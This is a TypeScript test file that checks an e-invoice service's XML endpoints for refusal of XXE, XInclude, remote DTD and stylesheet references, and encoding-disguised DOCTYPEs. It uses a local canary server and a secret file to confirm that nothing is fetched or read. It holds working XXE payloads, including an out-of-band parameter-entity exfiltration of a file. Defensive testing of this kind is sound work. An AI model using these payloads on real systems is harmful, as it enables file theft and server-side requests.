/** B1 of TRUST 5.3: XML that would have its reader fetch, include or read something, at every door that takes XML. */
import { createServer, type Server } from 'node:http'
import { mkdtemp, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { strToU8, zipSync } from 'fflate'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import {
  evrakInProcess,
  formOf,
  type Answer,
  type Caller,
  type FileResult,
  type InProcess,
  type Refusal,
} from './evrak-in-process.ts'
import { invoiceFile } from './invoice-file.ts'

const own = { taxNumber: '3900383669', name: 'Alıcı A.Ş.' }
const secret = 'evrak-kanarya-4711'

let evrak: InProcess
let caller: Caller
let canary: { readonly server: Server; readonly address: string; readonly hits: string[] }
let folder: string
let secretFile: string
beforeAll(async () => {
  evrak = await evrakInProcess([own])
  caller = evrak.as(own.taxNumber)
  canary = await openCanary()
  folder = await mkdtemp(join(tmpdir(), 'evrak-canary-'))
  secretFile = join(folder, 'secret.txt')
  await writeFile(secretFile, secret)
})
afterAll(async () => {
  await evrak?.close()
  canary?.server.close()
  await rm(folder, { recursive: true, force: true })
})

/** Hears who comes: nobody may. */
async function openCanary() {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.end(secret)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, hits, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** When the file with the secret was read last; set back first, because file systems note a reading only after a writing. */
const readAt = async () => (await stat(secretFile)).atimeMs
const forgetReading = () => utimes(secretFile, new Date(0), new Date())

let made = 0
const document = () =>
  invoiceFile({
    number: `YUK2025${String((made += 1)).padStart(9, '0')}`,
    profile: 'TEMELFATURA',
    type: 'SATIS',
    customer: { taxNo: own.taxNumber, name: own.name },
  }).xml
const body = () => document().replace(/^<\?xml[^>]*\?>/, '')
const declared = (encoding: string, rest: string) =>
  `<?xml version="1.0" encoding="${encoding}"?>${rest}`
const withDoctype = (doctype: string, xml = body()) => declared('UTF-8', doctype + xml)
const withNote = (note: string, xml = body()) => xml.replace(/(<cbc:Note>)[^<]*/, `$1${note}`)

// Encodings that a reader might be talked into

const units = (text: string, bytes: number, isBig: boolean) => {
  const buffer = Buffer.alloc(text.length * bytes)
  const write = isBig ? buffer.writeUIntBE.bind(buffer) : buffer.writeUIntLE.bind(buffer)
  for (const [index, sign] of [...text].entries()) write(sign.charCodeAt(0), index * bytes, bytes)
  return buffer
}
const utf16le = (text: string, mark = true) =>
  Buffer.concat([mark ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), units(text, 2, false)])
const utf16be = (text: string, mark = true) =>
  Buffer.concat([mark ? Buffer.from([0xfe, 0xff]) : Buffer.alloc(0), units(text, 2, true)])
const utf32le = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), units(text, 4, false)])
const utf7 = (text: string) =>
  text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-')
/** Code page 037, as far as a DOCTYPE needs it. */
const ebcdicOf: Readonly<Record<string, number>> = Object.fromEntries([
  ...'abcdefghi'.split('').map((letter, index) => [letter, 0x81 + index]),
  ...'jklmnopqr'.split('').map((letter, index) => [letter, 0x91 + index]),
  ...'stuvwxyz'.split('').map((letter, index) => [letter, 0xa2 + index]),
  ...'ABCDEFGHI'.split('').map((letter, index) => [letter, 0xc1 + index]),
  ...'JKLMNOPQR'.split('').map((letter, index) => [letter, 0xd1 + index]),
  ...'STUVWXYZ'.split('').map((letter, index) => [letter, 0xe2 + index]),
  ...'0123456789'.split('').map((letter, index) => [letter, 0xf0 + index]),
  ['<', 0x4c],
  ['>', 0x6e],
  ['?', 0x6f],
  ['!', 0x5a],
  ['"', 0x7f],
  ['=', 0x7e],
  ['.', 0x4b],
  ['-', 0x60],
  ['/', 0x61],
  [':', 0x7a],
  ['[', 0xba],
  [']', 0xbb],
  [';', 0x5e],
  ['&', 0x50],
])
const ebcdic = (text: string) => Buffer.from([...text].map((sign) => ebcdicOf[sign] ?? 0x40))
/** `<` in two bytes, as no encoder writes it. */
const overlong = (text: string) =>
  Buffer.concat(
    [...text].map((sign) => (sign === '<' ? Buffer.from([0xc0, 0xbc]) : Buffer.from(sign))),
  )

type Bytes = string | Uint8Array
const fileAddress = () => pathToFileURL(secretFile).href
const xxe = (inside: string) => `<!DOCTYPE Invoice [${inside}]>`

/** Refused before a parser has seen a letter, with a sentence that says what. */
const doctypes: Readonly<Record<string, () => Bytes>> = {
  'an entity of a file': () =>
    withDoctype(xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`), withNote('&x;')),
  'an entity of an address': () =>
    withDoctype(xxe(`<!ENTITY x SYSTEM "${canary.address}/entity">`), withNote('&x;')),
  'an entity with a public name': () =>
    withDoctype(
      xxe(`<!ENTITY x PUBLIC "-//W3C//DTD" "${canary.address}/public">`),
      withNote('&x;'),
    ),
  'a parameter entity of an address': () =>
    withDoctype(xxe(`<!ENTITY % p SYSTEM "${canary.address}/parameter">%p;`)),
  'a file carried out by parameter entities': () =>
    withDoctype(
      xxe(
        `<!ENTITY % f SYSTEM "${fileAddress()}"><!ENTITY % e "<!ENTITY &#x25; out SYSTEM '${canary.address}/?%f;'>">%e;%out;`,
      ),
    ),
  'a DTD elsewhere': () => withDoctype(`<!DOCTYPE Invoice SYSTEM "${canary.address}/invoice.dtd">`),
  'a DTD of the disk': () => withDoctype(`<!DOCTYPE Invoice SYSTEM "${fileAddress()}">`),
  'a DTD with a public name': () =>
    withDoctype(`<!DOCTYPE Invoice PUBLIC "-//OASIS//DTD" "${canary.address}/public.dtd">`),
  'an entity that is never named': () => withDoctype(xxe('<!ENTITY x "y">')),
  'a DOCTYPE with nothing in it': () => withDoctype('<!DOCTYPE Invoice>'),
  'attributes by default': () =>
    withDoctype(xxe(`<!ATTLIST Invoice xml:base CDATA "${canary.address}/">`)),
  'a notation and an unparsed entity': () =>
    withDoctype(
      xxe(
        `<!NOTATION gif SYSTEM "${canary.address}/viewer"><!ENTITY x SYSTEM "${canary.address}/picture" NDATA gif>`,
      ),
    ),
  'small letters': () =>
    withDoctype(`<!doctype Invoice [<!ENTITY x SYSTEM "${fileAddress()}">]>`, withNote('&x;')),
  'behind a comment': () =>
    withDoctype(`<!-- fatura -->${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}`, withNote('&x;')),
  'behind a megabyte of blanks': () =>
    withDoctype(
      `${' \n'.repeat(512 * 1024)}${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}`,
      withNote('&x;'),
    ),
  'behind the first element': () =>
    declared(
      'UTF-8',
      body().replace(/(<Invoice[^>]*>)/, `$1${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}`),
    ),
  'UTF-16, little end first': () =>
    utf16le(declared('UTF-16', xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`) + withNote('&x;'))),
  'UTF-16, big end first': () =>
    utf16be(declared('UTF-16', xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`) + withNote('&x;'))),
  'UTF-8 with a mark': () =>
    `\uFEFF${withDoctype(xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`), withNote('&x;'))}`,
  'ISO-8859-9': () =>
    Buffer.from(
      declared(
        'ISO-8859-9',
        `${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}<Invoice>&x;</Invoice>`,
      ),
      'latin1',
    ),
}

/** Refused as no XML: nobody guesses an encoding until a DOCTYPE appears. */
const disguises: Readonly<Record<string, () => Bytes>> = {
  'UTF-16 without a mark, little end first': () =>
    utf16le(withDoctype(xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)), false),
  'UTF-16 without a mark, big end first': () =>
    utf16be(withDoctype(xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)), false),
  'UTF-16 said, UTF-8 written': () =>
    declared('UTF-16', xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`) + body()),
  'UTF-32': () => utf32le(declared('UTF-32', xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`))),
  'UTF-7': () =>
    declared('UTF-7', utf7(`${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}${withNote('&x;')}`)),
  EBCDIC: () =>
    ebcdic(
      declared('IBM037', `${xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`)}<Invoice>&x;</Invoice>`),
    ),
  'signs longer than they need be': () =>
    overlong(withDoctype(xxe(`<!ENTITY x SYSTEM "${fileAddress()}">`))),
  'an entity that nobody declared': () => declared('UTF-8', withNote('&x;')),
  'a NUL within the word': () => declared('UTF-8', `<!DOC\0TYPE Invoice>${body()}`),
  'an encoding that there is not': () =>
    declared('evrak-8', `${utf7('<!DOCTYPE Invoice>')}${body()}`),
}

/** Well-formed: kept or refused, but never followed, neither in the page nor in the PDF. */
const followed: Readonly<Record<string, () => string>> = {
  'an XInclude of a file': () =>
    declared(
      'UTF-8',
      body().replace(
        '</Invoice>',
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${fileAddress()}" parse="text"/></Invoice>`,
      ),
    ),
  'an XInclude of an address in a note': () =>
    declared(
      'UTF-8',
      withNote(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary.address}/include"/>`,
      ),
    ),
  'a stylesheet named by the document': () =>
    declared(
      'UTF-8',
      `<?xml-stylesheet type="text/xsl" href="${canary.address}/style.xsl"?><?xml-stylesheet type="text/css" href="${fileAddress()}"?>${body()}`,
    ),
  'a schema named by the document': () =>
    declared(
      'UTF-8',
      body().replace(
        /<Invoice /,
        `<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${canary.address}/schema.xsd" xml:base="${canary.address}/" `,
      ),
    ),
  'an attachment elsewhere': () =>
    declared(
      'UTF-8',
      body().replace(
        /<cac:Signature>|<cac:AccountingSupplierParty>/,
        `<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cbc:IssueDate>2025-03-14</cbc:IssueDate><cac:Attachment><cac:ExternalReference><cbc:URI>${canary.address}/attachment</cbc:URI></cac:ExternalReference></cac:Attachment></cac:AdditionalDocumentReference>$&`,
      ),
    ),
  'pictures and frames in the text': () =>
    declared(
      'UTF-8',
      withNote(
        `&lt;img src="${canary.address}/img"&gt;&lt;iframe src="${fileAddress()}"&gt;&lt;link rel=stylesheet href="${canary.address}/css"&gt;`,
      ),
    ),
}

// The doors

interface Refused {
  readonly isRefused: boolean
  readonly reason: string
}
type FetchHandler = (bytes: Uint8Array) => Promise<Refused>

const ofResult = ([result]: readonly FileResult[]): Refused => ({
  isRefused: result?.IsSuccess === false,
  reason: result?.Errors.join(' ') ?? '',
})
const ofAnswer = ({ status, body: said }: Answer<unknown>): Refused => ({
  isRefused: status >= 400 && status < 500,
  reason:
    status < 400 ? '' : (said as Refusal).Errors.map(({ Description }) => Description).join(' '),
})
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64')

const documentDoors: Readonly<Record<string, FetchHandler>> = {
  'the upload': async (bytes) =>
    ofResult(await caller.upload('/einvoice/Upload', { name: 'a.xml', bytes })),
  'an archive in the upload': async (bytes) =>
    ofResult(
      await caller.upload('/einvoice/Upload', {
        name: 'a.zip',
        bytes: zipSync({ 'a.xml': bytes }, { level: 0 }),
      }),
    ),
  'the upload of old documents': async (bytes) =>
    ofResult(await caller.upload('/earchive/Old', { name: 'a.xml', bytes })),
  'sending from XML': async (bytes) =>
    ofAnswer(await caller.ask('POST', '/einvoice/Send/Xml', formOf([{ name: 'a.xml', bytes }]))),
  'the preview of XML': async (bytes) =>
    ofAnswer(
      await caller.ask('POST', '/einvoice/Send/Xml/Preview', formOf([{ name: 'a.xml', bytes }])),
    ),
}
const templateDoors: Readonly<Record<string, FetchHandler>> = {
  'a new template': async (bytes) =>
    ofAnswer(
      await caller.ask('POST', '/einvoice/Templates/Files', {
        Name: 'Tehlikeli',
        Base64String: base64(bytes),
      }),
    ),
  'a new template of answers': async (bytes) =>
    ofAnswer(
      await caller.ask('PUT', '/edespatch/AnswerTemplates', {
        ID: null,
        Name: 'Tehlikeli',
        Base64String: base64(bytes),
      }),
    ),
}
const doors = { ...documentDoors, ...templateDoors }
const bytesOf = (value: Bytes): Uint8Array => (typeof value === 'string' ? strToU8(value) : value)
/** How many times as much as a file without any XML a refused one may cost: nothing is expanded, nothing parsed. */
const mostTimes = 10
const isThorough = process.env['ATTACKS'] === 'all'
/**
 * Where every shape comes and the cost of each refusal is measured: behind the other doors of its kind it is the same reading, and the
 * shapes are dealt round them. `ATTACKS=all`, as `npm run proof -- loop` has it, sends and measures all at every door.
 */
const measured = isThorough ? Object.keys(doors) : ['the upload', 'a new template']
const others = Object.keys(doors).filter((name) => !measured.includes(name))
function shapesAt<T>(door: string, shapes: Readonly<Record<string, T>>): [string, T][] {
  const nth = others.indexOf(door)
  return Object.entries(shapes).filter((_, index) => nth === -1 || index % others.length === nth)
}
/** What the cheapest of some tries took of the processor, in milliseconds: a clock on the wall would tell of the other work of a busy computer. No further try is made once one took no more than `enough`. */
async function cheapest(
  times: number,
  attempt: () => Promise<unknown>,
  enough = 0,
): Promise<number> {
  let best = Infinity
  for (let tries = 0; tries < times && best > enough; tries++) {
    const before = process.cpuUsage()
    await attempt()
    const { user, system } = process.cpuUsage(before)
    best = Math.min(best, (user + system) / 1000)
  }
  return best
}
interface Cost {
  readonly attack: string
  /** Of the refused document, and of as many bytes without any XML. */
  readonly ms: number
  readonly plainMs: number
  readonly attempt: () => Promise<unknown>
}

/**
 * Those that cost more than they may. The process has other work too, which may last longer than three tries: what an attack costs itself
 * it costs in each of many.
 */
async function tooDear(
  costs: readonly Cost[],
  mostOf: (cost: Cost) => number,
): Promise<readonly { readonly attack: string; readonly ms: number; readonly mostMs: number }[]> {
  const found = []
  for (const cost of costs) {
    const mostMs = mostOf(cost)
    if (cost.ms <= mostMs) continue
    const ms = await cheapest(50, cost.attempt, mostMs)
    if (ms > mostMs) found.push({ attack: cost.attack, ms, mostMs })
  }
  return found
}
/** Whether a text that reached the parser is one with a DOCTYPE, in whatever encoding it was taken for. */
const isOfAttack = (text: string): boolean => /doctype/i.test(text.replaceAll('\0', ''))
/** As many bytes as the given ones, none of which begins a tag. */
const plainText = (bytes: Uint8Array): Uint8Array => new Uint8Array(bytes.length).fill(0x78)
const median = (values: readonly number[]) =>
  [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0

describe('XML that reaches for something', () => {
  it('[DG1] has at least thirty shapes', () => {
    expect(Object.keys({ ...doctypes, ...disguises, ...followed }).length).toBeGreaterThanOrEqual(
      30,
    )
  })

  it.each(Object.keys(doors))(
    '[DG1] at the door “%s” a DOCTYPE in any shape is refused before a parser sees it, at the cost of any file',
    async (name) => {
      const parser = vi.spyOn(SaxesParser.prototype, 'write')
      await forgetReading()
      const isMeasured = measured.includes(name)
      const took: Cost[] = []
      for (const [attack, make] of shapesAt(name, doctypes)) {
        const bytes = bytesOf(make())
        parser.mockClear()
        const attempt = async () => {
          const { isRefused, reason } = await doors[name]!(bytes)
          expect([attack, isRefused, reason]).toEqual([
            attack,
            true,
            expect.stringMatching(/DOCTYPE|UTF-8/),
          ])
        }
        const ms = await cheapest(isMeasured ? 3 : 1, attempt)
        // The service works meanwhile, and may read documents that it took before.
        const parsed = parser.mock.calls.filter(([part]) => isOfAttack(String(part)))
        expect([attack, parsed.length]).toEqual([attack, 0])
        if (isMeasured)
          took.push({
            attack,
            ms,
            plainMs: await cheapest(3, () => doors[name]!(plainText(bytes))),
            attempt,
          })
      }
      parser.mockRestore()
      expect(canary.hits).toEqual([])
      expect(await readAt()).toBe(0)
      if (!isMeasured) return
      process.stdout.write(
        `[DG1] ${name}: ${took.length} documents with a DOCTYPE refused, median ${median(took.map(({ ms }) => ms)).toFixed(1)} ms, at most ${Math.max(...took.map(({ ms }) => ms)).toFixed(1)} ms of the processor with the way there and back\n`,
      )
      const most = median(took.map(({ plainMs }) => plainMs)) * mostTimes
      expect(await tooDear(took, ({ plainMs }) => Math.max(most, plainMs * mostTimes))).toEqual([])
    },
  )

  it.each(Object.keys(doors))(
    '[DG1] at the door “%s” no disguise is looked through until a DOCTYPE appears',
    async (name) => {
      await forgetReading()
      for (const [attack, make] of shapesAt(name, disguises)) {
        const { isRefused, reason } = await doors[name]!(bytesOf(make()))
        expect([attack, isRefused, reason]).toEqual([attack, true, expect.stringMatching(/\S/)])
      }
      expect(canary.hits).toEqual([])
      expect(await readAt()).toBe(0)
    },
  )

  it('[DG1] what names something elsewhere is kept as text or refused, and followed neither in the page nor in the PDF', async () => {
    await forgetReading()
    const kept: string[] = []
    for (const [attack, make] of Object.entries(followed)) {
      const [result] = await caller.upload('/einvoice/Upload', {
        name: `${attack}.xml`,
        bytes: make(),
      })
      if (!result?.IsSuccess) {
        expect([attack, result?.Errors[0]]).toEqual([attack, expect.stringMatching(/\S/)])
        continue
      }
      kept.push(attack)
      const { body: html } = await caller.ask<string>(
        'GET',
        `/einvoice/Purchase/${result.UUID}/html`,
      )
      expect([attack, html.includes(secret)]).toEqual([attack, false])
      // What stands on the page is on paper too: one that names much is printed, in the proof all.
      if (isThorough || attack === 'pictures and frames in the text') {
        const { status, body } = await caller.ask<string>(
          'GET',
          `/einvoice/Purchase/${result.UUID}/pdf`,
        )
        const pdf = Buffer.from(body, 'base64').toString('latin1')
        expect([attack, status, pdf.slice(0, 5)]).toEqual([attack, 200, '%PDF-'])
        expect([attack, pdf.includes(secret)]).toEqual([attack, false])
      }
      expect([attack, html]).toEqual([
        attack,
        expect.not.stringMatching(
          new RegExp(`<(img|iframe|link|script|object)[^>]*${canary.address}`),
        ),
      ])
    }
    process.stdout.write(`[DG1] kept and shown without following: ${kept.join(', ') || 'none'}\n`)
    expect(canary.hits).toEqual([])
    expect(await readAt()).toBe(0)
  })

  it('[DG1] the canaries would have been seen: reading the file and asking the address leaves a trace', async () => {
    await forgetReading()
    await readFile(secretFile)
    await fetch(`${canary.address}/seen`)
    expect(canary.hits).toEqual(['/seen'])
    expect(await readAt()).toBeGreaterThan(0)
  })
})
